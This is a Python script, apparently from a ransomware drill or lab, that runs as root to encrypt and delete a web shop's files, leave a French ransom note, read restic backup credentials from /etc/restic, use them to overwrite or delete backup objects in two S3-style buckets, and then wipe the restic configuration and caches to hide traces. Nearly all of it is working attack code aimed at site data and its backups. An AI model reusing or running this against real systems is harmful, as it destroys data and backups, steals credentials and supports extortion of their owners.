#!/usr/bin/env python3
"""srv: the ransomware, as root. The site first, then the copies, with the keys found here.

Over the first bucket, what cannot be deleted is written over: no key that may deposit is refused
that. At the second, all names are deleted, which its key may do. Then the traces of the job.
"""

import hashlib
import json
import os
import re
import shutil
from pathlib import Path

from lab_s3 import ADMIN, B2, B2_WHOLE, NUAGE, Client
from lab_shop import SITE

NOTE = Path("/var/lib/pcapra/rancon.json")
ENDING = ".verrou"


def mixed(path: Path, content: bytes) -> bytes:
    """The drill's own cipher: setup/rancon-retiree.py undoes it."""
    stream = hashlib.shake_256(f"{os.environ['PCAPRA_PHRASE']} {path}".encode())
    number = int.from_bytes(content, "big") ^ int.from_bytes(stream.digest(len(content)), "big")
    return number.to_bytes(len(content), "big")


def thief(name: str) -> Client | None:
    """A client with the key of the job's configuration."""
    try:
        text = Path(f"/etc/restic/{name}.env").read_text()
    except OSError:
        return None
    found = dict(re.findall(r"^(?:export )?(\w+)=[\"']?([^\"'\n]*)", text, re.MULTILINE))
    place = {"nuage": NUAGE, "b2": B2}[name]
    return Client(place, found.get("AWS_ACCESS_KEY_ID", ""), found.get("AWS_SECRET_ACCESS_KEY", ""))


# For the check `gardes`, not the attack's: what was there.
if not NOTE.is_file():
    NOTE.parent.mkdir(mode=0o700, exist_ok=True)
    kept = {
        "nuage": sorted(Client.of(NUAGE, ADMIN).versions("srv/")),
        "b2": sorted(Client.of(B2, B2_WHOLE).versions("srv/")),
    }
    NOTE.write_text(json.dumps(kept))

for path in sorted(SITE.rglob("*")):
    if path.is_file() and not path.is_symlink() and path.suffix != ENDING:
        locked = path.with_name(path.name + ENDING)
        locked.write_bytes(mixed(path, path.read_bytes()))
        status = path.stat()
        os.chown(locked, status.st_uid, status.st_gid)
        shutil.copystat(path, locked)
        path.unlink()
(SITE / "LISEZ-MOI-RANCON.txt").write_text("Vos fichiers et vos sauvegardes sont à nous. Payez.\n")

if (nuage := thief("nuage")) is not None:
    names = sorted(nuage.names("srv/"), key=lambda name: name != "srv/config")
    refused = any(nuage.ask("DELETE", name).status == 403 for name in names[:1])
    for name in names:
        if refused:
            nuage.ask("PUT", name, b"PAYEZ " + os.urandom(64))
        else:
            nuage.ask("DELETE", name)
if (b2 := thief("b2")) is not None:
    for name in b2.names("srv/"):
        b2.ask("DELETE", name)

for folder in ("/etc/restic", "/root/.cache/restic", "/var/cache/restic"):
    shutil.rmtree(folder, ignore_errors=True)
Path("/usr/local/sbin/sauvegarde-s3").unlink(missing_ok=True)
